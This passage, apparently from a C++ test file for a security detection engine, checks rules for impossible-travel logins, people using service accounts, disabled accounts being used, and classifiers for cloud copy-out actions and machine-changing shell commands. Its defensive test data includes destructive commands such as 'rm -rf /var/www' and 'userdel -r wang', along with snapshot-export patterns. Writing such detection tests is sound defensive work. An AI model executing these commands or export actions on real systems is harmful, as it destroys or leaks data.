            (Reasons{"lin logged in on web-01 from 10.2.0.5 (Shanghai), and 30 min before from 10.1.0.5 (Beijing), "
                     "1071 km away: nobody travels that fast"}));
  EXPECT_EQ(
      of_rule(told(lists, {ssh(kNow, "lin", "10.4.0.5"), ssh(kNow + 4 * kMinute, "lin", "10.5.0.5")}), rule).size(),
      1u);
  EXPECT_TRUE(told(lists, {ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + 3 * kHour, "lin", "10.2.0.5")}).empty())
      << "by aeroplane";
  EXPECT_TRUE(told(lists, {ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + kMinute, "lin", "10.3.0.5")}).empty())
      << "the next town";
  EXPECT_TRUE(told(lists, {ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + kMinute, "chen", "10.2.0.5")}).empty());
  EXPECT_EQ(
      of_rule(told(lists, {ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + 150 * kDay, "lin", "10.2.0.5")}), rule).size(), 0u)
      << "months later";
  std::vector<Line> vpn;
  for (int i = 0; i < 20; ++i) vpn.push_back(ssh(kNow + i * kHour, "lin", i % 2 ? "10.1.0.5" : "10.2.0.5"));
  EXPECT_LE(of_rule(told(lists, vpn), rule).size(), 2u) << "a habit";

  DetectOptions options;
  options.place_of = [](std::string_view address) -> std::optional<PlaceOnEarth> {
    return address == "203.0.113.9" ? PlaceOnEarth{"Paris", 48.9, 2.4} : PlaceOnEarth{"Tokyo", 35.7, 139.7};
  };
  EXPECT_EQ(
      of_rule(alerts_of({ssh(kNow, "lin", "203.0.113.9"), ssh(kNow + kHour, "lin", "198.51.100.9")}, options), rule)
          .size(),
      1u);
}

// Office and VPN of one person, a way over hosts, machines: none of these is anybody at two places.
TEST(Travel, a_person_s_own_places_and_ways_are_none) {
  const std::string lists =
      "networks: [10.1.0.0/16 Beijing 39.9 116.4, 10.2.0.0/16 Shanghai 31.2 121.5, 10.8.0.0/16 VPN]\n"
      "bastions: [bastion-02 10.2.0.10]\nservice_accounts: [deploy]";
  const auto count = [&](const std::vector<Line>& lines) {
    return of_rule(told(lists, lines), "account.two-places").size();
  };
  const auto then = kNow + 20 * kDay;
  std::vector<Line> known{ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + kDay, "lin", "10.2.0.5"),
                          ssh(then, "lin", "10.1.0.6"), ssh(then + 5 * kMinute, "lin", "10.2.0.7")};
  EXPECT_EQ(count(known), 0u) << "both are its own";
  known[1].values[1].second = "chen";
  EXPECT_EQ(count(known), 1u) << "one is new";
  EXPECT_EQ(count({ssh(kNow, "lin", "10.1.0.5"), ssh(kNow + kDay, "lin", "10.2.0.5"),
                   ssh(kNow + kDay + kMinute, "lin", "10.1.0.5")}),
            1u)
      << "the other came first";

  EXPECT_EQ(count({ssh(kNow, "lin", "10.1.0.5", "bastion-02"), ssh(kNow + kMinute, "lin", "10.2.0.10", "web-01")}), 0u)
      << "over a bastion";
  auto jump = ssh(kNow, "lin", "10.1.0.5", "web-09");
  jump.sender = "10.2.0.77";
  EXPECT_EQ(count({jump, ssh(kNow + kMinute, "lin", "10.2.0.77", "web-01")}), 0u) << "from a host that it is on";
  for (auto machine : {"deploy", "WEB-01$", "system:serviceaccount:shop:ci", "ci@shop.iam.gserviceaccount.com"})
    EXPECT_EQ(count({ssh(kNow, machine, "10.1.0.5"), ssh(kNow + kMinute, machine, "10.2.0.5")}), 0u) << machine;
  EXPECT_EQ(count({ssh(kNow, "root", "10.1.0.5", "a"), ssh(kNow + kMinute, "root", "10.2.0.5", "b")}), 0u);
  EXPECT_EQ(count({ssh(kNow, "root", "10.1.0.5", "a"), ssh(kNow + kMinute, "root", "10.2.0.5", "a")}), 1u);

  DetectOptions options;
  options.place_of = [](std::string_view address) -> std::optional<PlaceOnEarth> {
    return address == "203.0.113.9" ? PlaceOnEarth{"Beijing", 39.9, 116.4} : PlaceOnEarth{"Jinan", 36.7, 117.0};
  };
  const auto by_geoip = [&](const char* other) {
    return of_rule(alerts_of({ssh(kNow, "lin", "203.0.113.9"), ssh(kNow + kMinute, "lin", other)}, options),
                   "account.two-places")
        .size();
  };
  EXPECT_EQ(by_geoip("2001:db8::9"), 0u);
  EXPECT_EQ(by_geoip("198.51.100.9"), 1u);
}

TEST(ServiceAccounts, a_person_at_a_programs_account_is_told_without_any_list) {
  const std::string_view rule = "account.service-logs-in";
  std::vector<Line> nights;
  for (int day = 0; day < 10; ++day) nights.push_back(ssh(kNow + day * kDay, "backup", "10.0.1.51", "db-01"));
  const auto with = [&](Line last) {
    auto lines = nights;
    lines.push_back(std::move(last));
    return of_rule(told("{}", lines), rule).size();
  };
  EXPECT_EQ(with(ssh(kNow + 10 * kDay, "backup", "10.0.1.51", "db-01", "password")), 1u);
  EXPECT_EQ(with(ssh(kNow + 10 * kDay, "backup", "10.0.1.51", "db-01")), 0u);
  std::vector<Line> workdays;
  for (int day = 0; day < 14; ++day)
    if (day % 7 < 5) workdays.push_back(ssh(kNow + day * kDay, "li", "10.0.0.10", "db-01"));
  workdays.push_back(ssh(kNow + 14 * kDay, "li", "10.0.0.10", "db-01", "password"));
  EXPECT_EQ(of_rule(told("{}", workdays), rule).size(), 0u) << "a person, who has days off";
  for (int hour = 1; hour < 8; ++hour) nights.push_back(ssh(kNow + hour * kHour, "backup", "10.0.1.51", "db-01"));
  EXPECT_EQ(with(ssh(kNow + 10 * kDay, "backup", "10.0.1.51", "db-01", "password")), 0u) << "a person, at all hours";

  std::vector<Line> jobs;
  for (int day = 0; day < 5; ++day) jobs.push_back(act(kNow + day * kDay, "job-run", "report"));
  EXPECT_TRUE(told("{}", jobs).empty());
  jobs.push_back(ssh(kNow + 6 * kDay, "report", "10.0.0.10"));
  EXPECT_EQ(of_rule(told("{}", jobs), rule).size(), 1u);
  jobs.insert(jobs.begin(), ssh(kNow, "report", "10.0.0.10"));
  EXPECT_EQ(of_rule(told("{}", jobs), rule).size(), 0u) << "who logs in at times may have jobs";
}

TEST(Disabled, an_account_that_was_disabled_and_is_used_is_told) {
  const std::string_view rule = "account.disabled-used";
  const auto lock = [](std::string how) { return act(kNow, std::move(how), "wang", {}, "web-01"); };
  auto alerts = told("{}", {lock("account-locked"), ssh(kNow + kHour, "wang", "10.0.0.10")});
  ASSERT_EQ(of_rule(alerts, rule).size(), 1u);
  EXPECT_EQ(of_rule(alerts, rule)[0]->reason,
            "wang logged in on web-01 from 10.0.0.10, but was disabled on web-01 at 2026-11-02 08:00:00 UTC and not "
            "enabled since");
  EXPECT_EQ(of_rule(alerts, rule)[0]->records.size(), 2u);
  for (auto command : {"/usr/sbin/usermod -L wang", "passwd -l wang", "chage -E 0 wang", "userdel -r wang",
                       "/usr/sbin/usermod -s /sbin/nologin wang"})
    EXPECT_EQ(of_rule(told("{}", {sudo(kNow, "zhou", command), ssh(kNow + kHour, "wang", "10.0.0.10")}), rule).size(),
              1u)
        << command;
  EXPECT_TRUE(
      told("{}", {lock("account-locked"), lock("account-unlocked"), ssh(kNow + kHour, "wang", "10.0.0.10")}).empty());
  EXPECT_TRUE(told("{}", {sudo(kNow, "zhou", "usermod -L wang"), sudo(kNow, "zhou", "usermod -U wang"),
                          ssh(kNow + kHour, "wang", "10.0.0.10")})
                  .empty());
  EXPECT_TRUE(
      told("{}", {sudo(kNow, "zhou", "usermod -aG video wang"), ssh(kNow + kHour, "wang", "10.0.0.10")}).empty());
  Line too_often = lock("account-locked");
  too_often.values.emplace_back("event.action", "locked-out-user-account");
  EXPECT_TRUE(told("{}", {too_often, ssh(kNow + kHour, "wang", "10.0.0.10")}).empty())
      << "wrong passwords are no decision";
}

TEST(Listed, what_is_remembered_comes_back_from_the_state) {
  DetectOptions options;
  options.lists = lists_of("networks: [10.1.0.0/16 Beijing 39.9 116.4, 10.2.0.0/16 Shanghai 31.2 121.5]");
  Committer committer;
  Engine before(no_rules(), options);
  observe(before, no_rules(), committer,
          {ssh(kNow, "lin", "10.1.0.5"), act(kNow, "account-locked", "wang"),
           ticket(kNow, "CHG-1", "lin", "2026-11-02T12:00:00Z")});
  Engine after(no_rules(), options);
  auto loaded = after.load(before.save());
  ASSERT_TRUE(loaded);
  EXPECT_TRUE(loaded->empty());
  EXPECT_EQ(after.save(), before.save());
  auto alerts = observe(after, no_rules(), committer,
                        {ssh(kNow + kMinute, "lin", "10.2.0.5"), ssh(kNow + kMinute, "wang", "10.1.0.9")});
  EXPECT_EQ(of_rule(alerts, "account.two-places").size(), 1u);
  EXPECT_EQ(of_rule(alerts, "account.disabled-used").size(), 1u);
  after.use(lists_of("leavers: [li]"));
  EXPECT_EQ(of_rule(observe(after, no_rules(), committer, {ssh(kNow + kHour, "li", "10.1.0.5")}), "list.leaver").size(),
            1u);
}

TEST(ChangeWords, what_is_done_to_a_virtual_machine_is_told_by_the_words_of_its_call) {
  for (auto words :
       {"ModifyDBSnapshotAttribute", "ModifyImageSharePermission", "ExportSnapshot", "CreateInstanceExportTask",
        "v1.compute.images.setIamPolicy", "virsh vol-download x", "os-volume_upload_image"})
    EXPECT_EQ(virtual_act_of(words), VirtualAct::copies_out) << words;
  for (auto words : {"TerminateInstances", "compute.server.delete", "vim.event.VmRemovedEvent", "virsh undefine x",
                     "DeleteSnapshot"})
    EXPECT_EQ(virtual_act_of(words), VirtualAct::deletes) << words;
  for (auto words : {"CreateSnapshot", "MICROSOFT.COMPUTE/SNAPSHOTS/WRITE", "v1.compute.snapshots.insert"})
    EXPECT_EQ(virtual_act_of(words), VirtualAct::copies) << words;
  for (auto words : {"DescribeInstanceVncUrl", "os-getVNCConsole", "vim.event.VmAcquiredMksTicketEvent", "RunCommand"})
    EXPECT_EQ(virtual_act_of(words), VirtualAct::enters) << words;
  for (auto words : {"DescribeInstances", "ListSnapshots", "CreateTags", "DeletePolicy", "ConsoleLogin", ""})
    EXPECT_EQ(virtual_act_of(words), VirtualAct::none) << words;
}

TEST(ChangeWords, what_changes_a_machine_is_told_from_what_looks) {
  for (auto line :
       {"/usr/bin/systemctl restart nginx", "apt install nmap", "sudo -u root yum update",
        "/usr/bin/vim /etc/nginx/nginx.conf", "rm -rf /var/www", "sed -i s/a/b/ /etc/hosts",
        "iptables -A INPUT -j DROP", "rpm -ivh x.rpm", "useradd x", "kubectl delete pod x", "tee /etc/cron.d/x"})
    EXPECT_TRUE(changes_a_machine(line)) << line;
  for (auto line : {"/usr/bin/systemctl status nginx", "apt list --upgradable", "apt update", "vim /tmp/x",
                    "rm -f /tmp/site.tar.gz", "sed s/a/b/ /etc/hosts", "iptables -L -n", "rpm -qa", "cat /etc/hosts",
                    "kubectl get pods", "docker ps", "journalctl -u nginx", ""})
    EXPECT_FALSE(changes_a_machine(line)) << line;
}

}  // namespace
}  // namespace yushi::detect
